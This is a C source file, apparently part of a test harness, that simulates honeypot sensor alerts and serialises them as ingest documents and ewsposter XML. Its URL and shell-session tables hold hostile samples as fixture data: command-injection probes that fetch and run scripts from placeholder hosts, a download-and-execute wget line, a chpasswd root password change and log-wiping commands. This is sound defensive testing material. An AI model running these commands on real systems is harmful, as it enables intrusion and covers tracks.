/* honeynet.c: the synthetic network's tables and rules, and the two writers of an alert (document and ewsposter XML). */
#include "honeynet.h"

#include <math.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <curl/curl.h>
#include <openssl/evp.h>

#include "array_len.h"
#include "classify.h"
#include "ews_payload.h"
#include "json_writer.h"
#include "xml_writer.h"

#define NETWORK_SEED 20170222 /* the network is the same whatever the traffic's seed */

enum style {
    STYLE_NONE,  /* the connection only */
    STYLE_PORT,  /* honeytrap, dionaea: the ingest names the port; now and then a CVE */
    STYLE_WEB,   /* a URL and the raw HTTP request */
    STYLE_SHELL, /* cowrie: a login, and the commands typed after a successful one */
    STYLE_LOGIN, /* heralding: credentials for the service on the port */
    STYLE_ICS,   /* conpot: its event record */
    STYLE_ES,    /* elasticpot: a search-engine URL */
    STYLE_ASA,   /* ciscoasa: the exploit's payload */
    STYLE_IDS,   /* suricata: the signature's CVE */
};

struct honeynet_kind {
    const char *name;        /* the Analyzer id's prefix: the ingest classifies by it */
    const char *description; /* ewsposter's Request type="description" */
    unsigned weight;         /* share of the sensors, percent */
    enum style style;
    unsigned short ports[10]; /* its ports, most attacked first; none: any commonly scanned port */
};

/* clang-format off */
static const struct honeynet_kind kinds[] = {
    {"cowrie", "SSH Honeypot Cowrie", 26, STYLE_SHELL, {22, 23, 2222}},
    {"honeytrap", "NetworkHoneypot Honeytrap v1.1", 18, STYLE_PORT, {0}},
    {"dionaea", "Network Honeypot Dionaea v0.1.0", 14, STYLE_PORT, {445, 3306, 1433, 21, 135, 80, 1723, 5060, 42, 81}},
    {"heralding", "Heralding Honeypot", 8, STYLE_LOGIN, {21, 22, 110, 143, 3389, 5432, 5900, 1080}},
    {"glastopf", "Webpage Honeypot Glastopf", 7, STYLE_WEB, {80}},
    {"tanner", "Webpage Honeypot Tanner", 4, STYLE_WEB, {80, 8080}},
    {"suricata", "Suricata IDS", 4, STYLE_IDS, {80, 445, 1900, 8080}},
    {"conpot", "Conpot ICS Honeypot", 3, STYLE_ICS, {502, 102, 161, 47808, 623}},
    {"elasticpot", "Elasticsearch Honeypot Elasticpot", 3, STYLE_ES, {9200}},
    {"mailoney", "Mail Honeypot mailoney", 3, STYLE_NONE, {25, 587}},
    {"rdpy", "RDP Honeypot RDPY", 3, STYLE_NONE, {3389}},
    {"vnclowpot", "VNC Honeypot vnclowpot", 2, STYLE_NONE, {5900}},
    {"ciscoasa", "Cisco ASA Honeypot", 2, STYLE_ASA, {8443}},
    {"glutton", "Glutton Honeypot", 2, STYLE_NONE, {0}},
    {"medpot", "Medpot HL7 Honeypot", 1, STYLE_NONE, {2575}},
};
/* clang-format on */

struct country {
    const char *code, *name;
    double lat, lon;
};

/* Where the T-Pots stand (mostly Germany, as in the EWS network), their clocks and their providers. */
static const struct site {
    struct country country;
    int tz_minutes;
    unsigned char net[2]; /* the provider's addresses: net[0].net[1].x.y */
    const char *as;
} sites[] = {
    {{"DE", "Germany", 51.2993, 9.491}, 60, {87, 150}, "AS3320 Deutsche Telekom AG"},
    {{"DE", "Germany", 50.1188, 8.6843}, 60, {87, 151}, "AS3320 Deutsche Telekom AG"},
    {{"DE", "Germany", 52.5196, 13.4069}, 60, {87, 152}, "AS3320 Deutsche Telekom AG"},
    {{"AT", "Austria", 48.2085, 16.3721}, 60, {77, 116}, "AS8447 A1 Telekom Austria AG"},
    {{"CH", "Switzerland", 47.3667, 8.55}, 60, {85, 1}, "AS3303 Swisscom (Schweiz) AG"},
    {{"PL", "Poland", 52.2394, 21.0362}, 60, {83, 25}, "AS5617 Orange Polska Spolka Akcyjna"},
    {{"NL", "Netherlands", 52.3824, 4.8995}, 60, {145, 53}, "AS1136 KPN B.V."},
    {{"US", "United States", 39.0437, -77.4875}, -300, {54, 80}, "AS16509 Amazon.com, Inc."},
};

/* Attacker countries, most active first (the share falls with the position). */
/* clang-format off */
static const struct country attacker_countries[] = {
    {"CN", "China", 34.7725, 113.7266},        {"US", "United States", 37.751, -97.822},
    {"RU", "Russia", 55.7386, 37.6068},        {"NL", "Netherlands", 52.3824, 4.8995},
    {"DE", "Germany", 51.2993, 9.491},         {"BR", "Brazil", -22.8305, -43.2192},
    {"IN", "India", 21.9974, 79.0011},         {"VN", "Vietnam", 16.0020, 105.9980},
    {"KR", "Republic of Korea", 37.5112, 126.9741}, {"FR", "France", 48.8582, 2.3387},
    {"GB", "United Kingdom", 51.4964, -0.1224}, {"ID", "Indonesia", -6.1750, 106.8286},
    {"TW", "Taiwan", 24.0, 121.0},             {"UA", "Ukraine", 50.4522, 30.5287},
    {"IR", "Iran", 35.6980, 51.4115},          {"SG", "Singapore", 1.2868, 103.8503},
    {"HK", "Hong Kong", 22.2908, 114.1501},    {"JP", "Japan", 35.6900, 139.6900},
    {"CA", "Canada", 43.6319, -79.3716},       {"RO", "Romania", 44.4268, 26.1025},
    {"PL", "Poland", 52.2394, 21.0362},        {"TR", "Turkey", 41.0214, 28.9948},
    {"AR", "Argentina", -34.6022, -58.3845},   {"MX", "Mexico", 19.4285, -99.1277},
    {"IT", "Italy", 43.1479, 12.1097},         {"ES", "Spain", 40.4172, -3.6840},
};
/* clang-format on */

/*
 * First octets of attacker addresses: 64 blocks of public unicast space from
 * every registry, none holding a private or reserved range, none a T-Pot's.
 */
static const unsigned char attacker_octets[] = {
    1,   2,   5,   14,  23,  27,  31,  36,  37,  39,  41,  42,  43,  45,  46,  49,
    58,  59,  60,  61,  62,  64,  66,  67,  68,  69,  70,  71,  72,  73,  78,  79,
    81,  82,  86,  88,  89,  91,  92,  93,  94,  95,  101, 103, 104, 106, 109, 110,
    119, 120, 121, 122, 123, 124, 125, 175, 177, 179, 185, 186, 187, 190, 196, 200,
};
_Static_assert(ARRAY_LEN(attacker_octets) << 24 == HONEYNET_ATTACKERS_MAX,
               "one block per 2^24 attacker numbers");

static const unsigned short scanned_ports[] = {
    445, 23,  22,  80,  3389, 1433, 3306, 5900,  8080,  443,  25,   5060,  6379,  9200, 2222,
    21,  110, 143, 161, 502,  8443, 5555, 37215, 52869, 7547, 8088, 11211, 27017, 5432, 1723,
};
static const unsigned short udp_ports[] = {161, 623, 1900, 5060, 47808};

/* What heralding and conpot report as the protocol of a port. */
static const struct {
    unsigned short port;
    const char *name;
} services[] = {
    {21, "ftp"},          {22, "ssh"},       {110, "pop3"},    {143, "imap"},   {3389, "rdp"},
    {5432, "postgresql"}, {5900, "vnc"},     {1080, "socks5"}, {502, "modbus"}, {102, "s7comm"},
    {161, "snmp"},        {47808, "bacnet"}, {623, "ipmi"},
};

/* clang-format off */
static const char *const urls[] = {
    "/", "/wp-login.php", "/xmlrpc.php", "/.env", "/admin/config.php", "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;rm+-rf+*;wget+http://example.invalid/a.sh",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/actuator/health", "/api/v1/pods", "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/wp-content/plugins/wp-file-manager/readme.txt", "/manager/html", "/console/", "/.git/config",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/login.cgi?cli=aa%20aa%27;wget%20http://x.invalid/s%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$",
    "/robots.txt", "/favicon.ico", "/sitemap.xml", "/server-status", "/?XDEBUG_SESSION_START=phpstorm",
    "/mgmt/tm/util/bash", "/autodiscover/autodiscover.json?@test.invalid/owa/?&Email=autodiscover/autodiscover.json%3F@x",
};
static const char *const search_engine_urls[] = {"/", "/_cat/indices", "/_nodes", "/_search?q=*", "/_cluster/health"};
static const char *const user_agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x", "curl/7.64.1", "python-requests/2.25.1", "Go-http-client/1.1",
};
/* clang-format on */

/* What is typed after a successful cowrie login (each line after a newline, as cowrie reports input). */
static const char *const shell_sessions[] = {
    "\nuname -a",
    "\nenable\nshell\nsh\ncat /proc/mounts; /bin/busybox VDXZY",
    "\ncd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "\ncat /proc/cpuinfo | grep name | wc -l\nfree -m | grep Mem\nls -lh $(which ls)",
    "\necho -e \"\\x41\\x4b\\x34\\x37\"",
    "\nnproc\nuname -m\ncrontab -l",
    "\necho \"root:x7Kq2pLm\" | chpasswd | bash",
    "\nlscpu | grep Model\nps -ef | grep '[Mm]iner'",
    "\nrm -rf /tmp/* /var/tmp/*; history -c",
    "\nw\nuname -a\ncat /etc/os-release",
};
static const char *const credentials[][2] = {
    {"root", "root"},         {"admin", "admin"},    {"root", "123456"},     {"user", "user"},
    {"root", "klv123"},       {"admin", "password"}, {"support", "support"}, {"root", "xc3511"},
    {"pi", "raspberry"},      {"ubnt", "ubnt"},      {"test", "test"},       {"oracle", "oracle"},
    {"postgres", "postgres"}, {"root", "vizxv"},     {"guest", "12345"},
};
static const char *const ssh_versions[] = {"SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-OpenSSH_7.4",
                                           "SSH-2.0-PUTTY", "SSH-2.0-libssh-0.6.0"};
static const char *const cves[] = {
    "CVE-2017-0144",  "CVE-2021-44228", "CVE-2014-6271", "CVE-2017-17215", "CVE-2018-10561",
    "CVE-2021-41773", "CVE-2020-0796",  "CVE-2019-0708", "CVE-2022-26134",
};
static const char *const conpot_events[] = {"NEW_CONNECTION", "CONNECTION_LOST"};

/* ---- random choices ---- */

static void seed_rng(unsigned short rng[3], unsigned long seed)
{
    rng[0] = 0x330e;
    rng[1] = (unsigned short)seed;
    rng[2] = (unsigned short)(seed >> 16);
}

double honeynet_random(struct honeynet *net)
{
    return erand48(net->rng);
}

unsigned honeynet_below(struct honeynet *net, unsigned n)
{
    return (unsigned)(nrand48(net->rng) % (long)n);
}

/* An index into a table of n entries, the first ones most likely (a rough power law). */
static unsigned skewed(struct honeynet *net, size_t n)
{
    double u = honeynet_random(net);

    return (unsigned)(u * u * u * (double)n);
}

#define PICK(net, table) (table)[honeynet_below(net, ARRAY_LEN(table))]
#define PICK_SKEWED(net, table) (table)[skewed(net, ARRAY_LEN(table))]

uint32_t honeynet_busy_attacker(struct honeynet *net, uint32_t pool)
{
    double u = honeynet_random(net);

    return (uint32_t)(u * u * (double)(pool < HONEYNET_ATTACKERS_MAX ? pool : HONEYNET_ATTACKERS_MAX));
}

time_t honeynet_moment(struct honeynet *net, time_t from, time_t to)
{
    if (to <= from)
        return from;
    for (;;) {
        time_t t = from + (time_t)(honeynet_random(net) * (double)(to - from));
        double hour = (double)(t % 86400) / 3600.0;

        if (honeynet_random(net) < 0.55 + 0.45 * sin(2 * M_PI * (hour - 9.0) / 24.0))
            return t;
    }
}

unsigned honeynet_tpot(struct honeynet *net, bool community_only)
{
    return honeynet_below(net, community_only ? HONEYNET_COMMUNITY_TPOTS : HONEYNET_TPOTS);
}

unsigned honeynet_sensor(struct honeynet *net, unsigned tpot)
{
    return tpot % HONEYNET_TPOTS * HONEYNET_SENSORS_PER_TPOT + honeynet_below(net, HONEYNET_SENSORS_PER_TPOT);
}

/* ---- the network ---- */

static void ipv4_text(uint32_t addr, char out[16])
{
    snprintf(out, 16, "%u.%u.%u.%u", addr >> 24, addr >> 16 & 255, addr >> 8 & 255, addr & 255);
}

/* "lat , lon" as the ingest writes coordinates, rounded to four decimals as the databases hold them. */
static void location_text(double lat, double lon, char *out, size_t size)
{
    char la[32], lo[32];

    geo_format_coordinate(round(lat * 1e4) / 1e4, false, la, sizeof la);
    geo_format_coordinate(round(lon * 1e4) / 1e4, false, lo, sizeof lo);
    snprintf(out, size, "%s , %s", la, lo);
}

/* A place in country c, near its centre by up to a degree (offsets 0..200 hundredths). */
static void set_place(struct geo_place *out, const struct country *c, const char *as, unsigned lat_off,
                      unsigned lon_off)
{
    snprintf(out->country, sizeof out->country, "%s", c->code);
    snprintf(out->country_name, sizeof out->country_name, "%s", c->name);
    snprintf(out->as_text, sizeof out->as_text, "%s", as);
    location_text(c->lat + (double)lat_off / 100.0 - 1.0, c->lon + (double)lon_off / 100.0 - 1.0,
                  out->location, sizeof out->location);
}

static const struct honeynet_kind *weighted_kind(unsigned slot)
{
    unsigned total = 0;

    for (size_t i = 0; i < ARRAY_LEN(kinds); i++)
        total += kinds[i].weight;
    slot %= total;
    for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
        if (slot < kinds[i].weight)
            return &kinds[i];
        slot -= kinds[i].weight;
    }
    return &kinds[0];
}

/* Old installations report no hostname and no addresses of their own, their docker address as Target, UTC times. */
static void build_tpot(struct honeynet *net, unsigned t)
{
    struct honeynet_tpot *tp = &net->tpots[t];
    const struct site *site = &PICK_SKEWED(net, sites);
    bool old = honeynet_below(net, 8) == 0;
    unsigned lat_off, lon_off;

    tp->community = t < HONEYNET_COMMUNITY_TPOTS;
    snprintf(tp->public_ip, sizeof tp->public_ip, "%u.%u.%u.%u", site->net[0], site->net[1], t,
             10 + honeynet_below(net, 240));
    snprintf(tp->docker_ip, sizeof tp->docker_ip, "172.20.0.%u", t + 2);
    snprintf(tp->hostname, sizeof tp->hostname, old ? "undefined" : "tpot-%03u", t);
    tp->target_ip = old ? tp->docker_ip : tp->public_ip;
    tp->external_ip = old ? "1.1.1.1" : tp->public_ip;
    tp->internal_ip = old ? "1.1.1.1" : tp->docker_ip;
    tp->tz_minutes = old ? 0 : site->tz_minutes;
    lat_off = honeynet_below(net, 201);
    lon_off = honeynet_below(net, 201);
    if (old)
        geo_lookup(NULL, tp->target_ip, &tp->place); /* the private-range place the ingest gives it */
    else
        set_place(&tp->place, &site->country, site->as, lat_off, lon_off);
}

void honeynet_init(struct honeynet *net, unsigned long seed)
{
    memset(net, 0, sizeof *net);
    seed_rng(net->rng, NETWORK_SEED);
    for (unsigned t = 0; t < HONEYNET_TPOTS; t++)
        build_tpot(net, t);
    for (unsigned i = 0; i < HONEYNET_SENSORS; i++) {
        struct honeynet_sensor *s = &net->sensors[i];

        /* a stride coprime to 100 gives every type its share and mixes the types within a T-Pot */
        s->kind = weighted_kind(i * 17);
        s->tpot = &net->tpots[i / HONEYNET_SENSORS_PER_TPOT];
        snprintf(s->ident, sizeof s->ident, "%s-%s-%03u", s->kind->name,
                 s->tpot->community ? "community" : "dtag", i);
        s->peer_type = classify_peer(s->ident);
    }
    seed_rng(net->rng, seed);
}

uint32_t honeynet_attacker_address(uint32_t attacker)
{
    /* an odd multiplier permutes 0..2^30-1, so neighbouring numbers land far apart (and 0 not on x.0.0.0) */
    uint32_t p = ((attacker + 1) * 2654435761u) & (HONEYNET_ATTACKERS_MAX - 1);

    return (uint32_t)attacker_octets[p >> 24] << 24 | (p & 0xffffff);
}

/* A private (RFC 1918) address: the small share of alerts the bad-IP feeds must leave out. */
static uint32_t private_address(uint32_t n)
{
    return n & 1 ? (192u << 24 | 168u << 16 | (n >> 1 & 0xffff)) : (10u << 24 | (n >> 1 & 0xffffff));
}

/* The attacker's country (stable per attacker, the first countries far more often), AS and coordinates. */
static void attacker_place(uint32_t attacker, uint32_t addr, struct geo_place *out)
{
    uint32_t h = attacker * 2246822519u;
    double u = (double)(h >> 8) / (double)(1u << 24);
    char as[64];

    snprintf(as, sizeof as, "AS%u Example Transit %u", 64496 + (addr >> 20) % 1000, (addr >> 20) % 1000);
    set_place(out, &attacker_countries[(unsigned)(u * u * ARRAY_LEN(attacker_countries))], as,
              (addr >> 8) % 201, addr % 201);
}

/* ---- one attack ---- */

static unsigned target_port(struct honeynet *net, const struct honeynet_kind *k)
{
    size_t n = 0;

    while (n < ARRAY_LEN(k->ports) && k->ports[n])
        n++;
    return n ? k->ports[skewed(net, n)] : PICK_SKEWED(net, scanned_ports);
}

static bool is_udp(unsigned port)
{
    for (size_t i = 0; i < ARRAY_LEN(udp_ports); i++)
        if (udp_ports[i] == port)
            return true;
    return false;
}

static const char *service(unsigned port)
{
    for (size_t i = 0; i < ARRAY_LEN(services); i++)
        if (services[i].port == port)
            return services[i].name;
    return "unknown";
}

static void add_extra(struct honeynet_alert *a, const char *key, const char *value)
{
    if (a->extras < HONEYNET_EXTRA_MAX) {
        a->extra[a->extras].key = key;
        a->extra[a->extras].value = value;
        a->extras++;
    }
}

static void log_in(struct honeynet *net, struct honeynet_alert *a)
{
    const char *const *pair = PICK_SKEWED(net, credentials);

    a->username = pair[0];
    a->password = pair[1];
    a->session_start = a->created;
}

/* A web request: the URL, and the request itself as the payload (the ingest keeps it as rawhttp). */
static void web_request(struct honeynet *net, struct honeynet_alert *a)
{
    char *raw = net->last.raw_http;
    int n;

    a->url = PICK_SKEWED(net, urls);
    n = snprintf(raw, sizeof net->last.raw_http,
                 "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n", a->url, a->target_ip,
                 PICK(net, user_agents));
    ews_md5_hex(raw, (size_t)n, net->last.payload_md5);
    a->payload = a->raw_http = raw;
    add_extra(a, "payload_md5", net->last.payload_md5);
}

/* A random (version 4) UUID, as conpot names its events. */
static void conpot_id(struct honeynet *net, char out[40])
{
    unsigned part[6];
    static const unsigned bits[] = {32, 16, 12, 12, 32, 16};

    /* drawn one by one: the order of arguments' evaluation is unspecified, the traffic must not depend on it */
    for (size_t i = 0; i < ARRAY_LEN(part); i++)
        part[i] = bits[i] == 32 ? honeynet_below(net, 1u << 16) << 16 | honeynet_below(net, 1u << 16)
                                : honeynet_below(net, 1u << bits[i]);
    snprintf(out, 40, "%08x-%04x-4%03x-a%03x-%08x%04x", part[0], part[1], part[2], part[3], part[4], part[5]);
}

/* The honeypot type's part of the attack. */
static void behave(struct honeynet *net, const struct honeynet_kind *k, unsigned port,
                   struct honeynet_alert *a)
{
    switch (k->style) {
    case STYLE_PORT:
        if (honeynet_below(net, port == 445 ? 3 : 40) == 0)
            a->vulnid = PICK(net, cves);
        break;
    case STYLE_WEB: web_request(net, a); break;
    case STYLE_SHELL:
        log_in(net, a);
        a->client_version = PICK(net, ssh_versions);
        a->login = honeynet_below(net, 5) == 0 ? "Success" : "Fail";
        if (strcmp(a->login, "Success") == 0)
            a->input = PICK(net, shell_sessions);
        break;
    case STYLE_LOGIN:
        log_in(net, a);
        add_extra(a, "protocol", service(port));
        break;
    case STYLE_ICS:
        conpot_id(net, net->last.conpot_id);
        add_extra(a, "conpot_event_type", PICK(net, conpot_events));
        add_extra(a, "conpot_data_type", service(port));
        add_extra(a, "conpot_sensor_id", "conpot");
        add_extra(a, "conpot_id", net->last.conpot_id);
        break;
    case STYLE_ES: a->url = PICK(net, search_engine_urls); break;
    case STYLE_ASA: add_extra(a, "payload", "['A']"); break;
    case STYLE_IDS: a->vulnid = PICK(net, cves); break;
    case STYLE_NONE: break;
    }
}

/* originalRequestString as the ingest composes it: "(CVE) " first, then the port for honeytrap and dionaea, else the URL or input. */
static void compose_request(struct honeynet *net, const struct honeynet_kind *k, struct honeynet_alert *a)
{
    char *out = net->last.request;
    size_t size = sizeof net->last.request;
    int n = *a->vulnid ? snprintf(out, size, "(%s) ", a->vulnid) : 0;

    if (k->style == STYLE_PORT)
        snprintf(out + n, size - (size_t)n, "Attack on port %s/%s", a->target_port, a->protocol);
    else
        snprintf(out + n, size - (size_t)n, "%s", a->url ? a->url : a->input ? a->input : "");
    a->request = out;
}

void honeynet_attack(struct honeynet *net, unsigned sensor, uint32_t attacker, time_t created,
                     time_t received, bool some_private, struct honeynet_alert *out)
{
    const struct honeynet_sensor *s = &net->sensors[sensor % HONEYNET_SENSORS];
    const struct honeynet_tpot *tp = s->tpot;
    bool private_source = some_private && honeynet_below(net, 50) == 0;
    uint32_t source = private_source ? private_address(attacker) : honeynet_attacker_address(attacker);
    unsigned port = target_port(net, s->kind);

    ipv4_text(source, net->last.source_ip);
    if (private_source)
        geo_lookup(NULL, net->last.source_ip, &net->last.source);
    else
        attacker_place(attacker, source, &net->last.source);
    utc_format(created, net->last.created);
    utc_format(received, net->last.received);
    snprintf(net->last.source_port, sizeof net->last.source_port, "%u", 1024 + honeynet_below(net, 64511));
    snprintf(net->last.target_port, sizeof net->last.target_port, "%u", port);
    *out = (struct honeynet_alert){
        .client = "-",
        .client_version = "",
        .created = net->last.created,
        .external_ip = tp->external_ip,
        .hostname = tp->hostname,
        .internal_ip = tp->internal_ip,
        .login = "",
        .password = "",
        .peer_ident = s->ident,
        .peer_type = s->peer_type,
        .raw_http = "-",
        .session_end = "",
        .session_start = "",
        .source_ip = net->last.source_ip,
        .source_port = net->last.source_port,
        .target_ip = tp->target_ip,
        .target_port = net->last.target_port,
        .protocol = is_udp(port) ? "udp" : "tcp",
        .username = "",
        .vulnid = "",
        .community = tp->community,
        .received = net->last.received,
        .country = net->last.source.country,
        .country_name = net->last.source.country_name,
        .source_as = net->last.source.as_text,
        .location = net->last.source.location,
        .target_country = tp->place.country,
        .target_country_name = tp->place.country_name,
        .target_as = tp->place.as_text,
        .location_dest = tp->place.location,
        /* honeytrap reports UTC whatever the T-Pot's zone */
        .tz_minutes = strcmp(s->kind->name, "honeytrap") == 0 ? 0 : tp->tz_minutes,
        .description = s->kind->description,
    };
    behave(net, s->kind, port, out);
    compose_request(net, s->kind, out);
}

/* ---- the writers ---- */

enum field_kind { F_TEXT, F_DOMAIN, F_EXTRA };

/*
 * The stored document's fields in the order the ingest writes them, and the
 * ewsposter AdditionalData that carries each (NULL: none does), percent-encoded
 * where the ingest decodes it.
 */
static const struct field {
    const char *name;
    enum field_kind kind;
    size_t offset; /* of the const char * in struct honeynet_alert */
    const char *meaning;
    bool encoded;
} fields[] = {
/* clang-format off */
#define TEXT(name, member, meaning, encoded) {name, F_TEXT, offsetof(struct honeynet_alert, member), meaning, encoded}
    /* clang-format on */
    TEXT("client", client, NULL, false),
    TEXT("clientVersion", client_version, "version", false),
    TEXT("createTime", created, NULL, false),
    TEXT("externalIP", external_ip, "externalIP", false),
    TEXT("hostname", hostname, "hostname", false),
    TEXT("internalIP", internal_ip, "internalIP", false),
    TEXT("login", login, "login", false),
    TEXT("originalRequestString", request, NULL, false),
    TEXT("password", password, "password", false),
    TEXT("peerIdent", peer_ident, NULL, false),
    TEXT("peerType", peer_type, NULL, false),
    TEXT("rawhttp", raw_http, NULL, false),
    TEXT("sessionEnd", session_end, "endtime", true),
    TEXT("sessionStart", session_start, "starttime", true),
    TEXT("sourceEntryIp", source_ip, NULL, false),
    TEXT("sourceEntryPort", source_port, NULL, false),
    TEXT("targetEntryIp", target_ip, NULL, false),
    TEXT("targetEntryPort", target_port, NULL, false),
    TEXT("targetport", protocol, NULL, false),
    TEXT("username", username, "username", false),
    TEXT("vulnid", vulnid, "cve_id", true),
    {"clientDomain", F_DOMAIN, 0, NULL, false},
    TEXT("recievedTime", received, NULL, false),
    TEXT("country", country, NULL, false),
    TEXT("countryName", country_name, NULL, false),
    TEXT("sourceEntryAS", source_as, NULL, false),
    TEXT("location", location, NULL, false),
    TEXT("targetCountry", target_country, NULL, false),
    TEXT("targetCountryName", target_country_name, NULL, false),
    TEXT("targetEntryAS", target_as, NULL, false),
    TEXT("locationDestination", location_dest, NULL, false),
    {"additionalData", F_EXTRA, 0, NULL, false},
#undef TEXT
};

static const char *field_text(const struct honeynet_alert *a, const struct field *f)
{
    return *(const char *const *)((const char *)a + f->offset);
}

/* additionalData as the ingest stores it: Python's json.dumps of a dict. */
static void additional_data(const struct honeynet_alert *a, struct buf *out)
{
    buf_putc(out, '{');
    for (size_t i = 0; i < a->extras; i++) {
        buf_puts(out, i ? ", " : "");
        json_write_string(out, a->extra[i].key, strlen(a->extra[i].key));
        buf_puts(out, ": ");
        json_write_string(out, a->extra[i].value, strlen(a->extra[i].value));
    }
    buf_putc(out, '}');
}

cJSON *honeynet_document(const struct honeynet_alert *a)
{
    cJSON *doc = cJSON_CreateObject();
    struct buf extra;
    bool ok = doc != NULL;

    buf_init(&extra, 0);
    for (size_t i = 0; ok && i < ARRAY_LEN(fields); i++) {
        const struct field *f = &fields[i];

        if (f->kind == F_DOMAIN) {
            ok = cJSON_AddBoolToObject(doc, f->name, a->community) != NULL;
        } else if (f->kind == F_EXTRA) {
            additional_data(a, &extra);
            ok = !extra.failed && cJSON_AddStringToObject(doc, f->name, extra.data) != NULL;
        } else if (field_text(a, f)) {
            ok = cJSON_AddStringToObject(doc, f->name, field_text(a, f)) != NULL;
        }
    }
    buf_free(&extra);
    if (!ok) {
        cJSON_Delete(doc);
        return NULL;
    }
    return doc;
}

/* ` name="value"`, the value escaped for an attribute. */
static void attribute(struct buf *out, const char *name, const char *value)
{
    buf_printf(out, " %s=\"", name);
    while (*value) {
        size_t run = strcspn(value, "\"");

        xml_escape(out, value, run);
        value += run;
        if (*value) {
            buf_puts(out, "&quot;");
            value++;
        }
    }
    buf_putc(out, '"');
}

/*
 * <Request type="kind">text</Request> or <AdditionalData meaning="kind" ...>;
 * nothing for an empty text, which the ingest would store as null or refuse.
 */
static void child(struct buf *out, const char *element, const char *kind, const char *text, bool encoded)
{
    bool data = strcmp(element, "AdditionalData") == 0;
    char *escaped = NULL;

    if (!text || !*text)
        return;
    if (encoded && !(text = escaped = curl_easy_escape(NULL, text, 0))) {
        out->failed = true;
        return;
    }
    buf_printf(out, "<%s", element);
    attribute(out, data ? "meaning" : "type", kind);
    buf_puts(out, data ? " type=\"string\">" : ">");
    xml_escape(out, text, strlen(text));
    buf_printf(out, "</%s>", element);
    curl_free(escaped);
}

static void endpoint(struct buf *out, const char *element, const char *ip, const char *port,
                     const char *protocol)
{
    buf_printf(out, "<%s", element);
    attribute(out, "category", strchr(ip, ':') ? "ipv6" : "ipv4");
    attribute(out, "port", port);
    attribute(out, "protocol", protocol);
    buf_putc(out, '>');
    xml_escape(out, ip, strlen(ip));
    buf_printf(out, "</%s>", element);
}

static void payload(struct buf *out, const char *bytes)
{
    size_t len = strlen(bytes);
    unsigned char *b64 = malloc(4 * ((len + 2) / 3) + 1);

    if (!b64) {
        out->failed = true;
        return;
    }
    EVP_EncodeBlock(b64, (const unsigned char *)bytes, (int)len);
    child(out, "Request", "raw", (const char *)b64, false);
    free(b64);
}

void honeynet_xml_begin(struct buf *out, const char *user, const char *token)
{
    buf_puts(out, "<EWS-SimpleMessage version=\"3.0\"><Authentication><username>");
    xml_escape(out, user, strlen(user));
    buf_puts(out, "</username><token>");
    xml_escape(out, token, strlen(token));
    buf_puts(out, "</token></Authentication>");
}

void honeynet_xml_end(struct buf *out)
{
    buf_puts(out, "</EWS-SimpleMessage>");
}

void honeynet_xml_alert(struct buf *out, const struct honeynet_alert *a)
{
    int m = a->tz_minutes;
    char local[UTC_STAMP_LEN], tz[16];
    time_t t = 0;

    utc_parse_stamp(a->created, strlen(a->created), &t);
    utc_format(t + m * 60, local);
    snprintf(tz, sizeof tz, "%c%02d%02d", m < 0 ? '-' : '+', abs(m) / 60, abs(m) % 60);
    buf_puts(out, "<Alert><Analyzer");
    attribute(out, "id", a->peer_ident);
    buf_puts(out, "/><CreateTime");
    attribute(out, "tz", tz);
    buf_printf(out, ">%s</CreateTime>", local);
    endpoint(out, "Source", a->source_ip, a->source_port, a->protocol);
    endpoint(out, "Target", a->target_ip, a->target_port, a->protocol);
    child(out, "Request", "description", a->description, false);
    child(out, "Request", "url", a->url, true);
    if (a->payload)
        payload(out, a->payload);
    child(out, "AdditionalData", "input", a->input, true);
    for (size_t i = 0; i < ARRAY_LEN(fields); i++)
        if (fields[i].meaning)
            child(out, "AdditionalData", fields[i].meaning, field_text(a, &fields[i]), fields[i].encoded);
    for (size_t i = 0; i < a->extras; i++) {
        /* the ingest computes payload_md5 from the payload; ewsposter percent-encodes a payload */
        if (strcmp(a->extra[i].key, "payload_md5") != 0)
            child(out, "AdditionalData", a->extra[i].key, a->extra[i].value,
                  strcmp(a->extra[i].key, "payload") == 0);
    }
    buf_puts(out, "</Alert>");
}

void honeynet_message(struct honeynet *net, unsigned tpot, uint32_t pool, const time_t *times, size_t n,
                      const char *user, const char *token, struct buf *out)
{
    struct honeynet_alert a;
    unsigned sensor = 0, left = 0;
    uint32_t attacker = 0;

    honeynet_xml_begin(out, user, token);
    for (size_t i = 0; i < n; i++) {
        if (left == 0) {
            /* a session: one attacker on one honeypot, a few alerts */
            attacker = honeynet_busy_attacker(net, pool);
            sensor = honeynet_sensor(net, tpot);
            left = 1 + honeynet_below(net, 5);
        }
        left--;
        honeynet_attack(net, sensor, attacker, times[i], times[i], false, &a);
        honeynet_xml_alert(out, &a);
    }
    honeynet_xml_end(out);
}
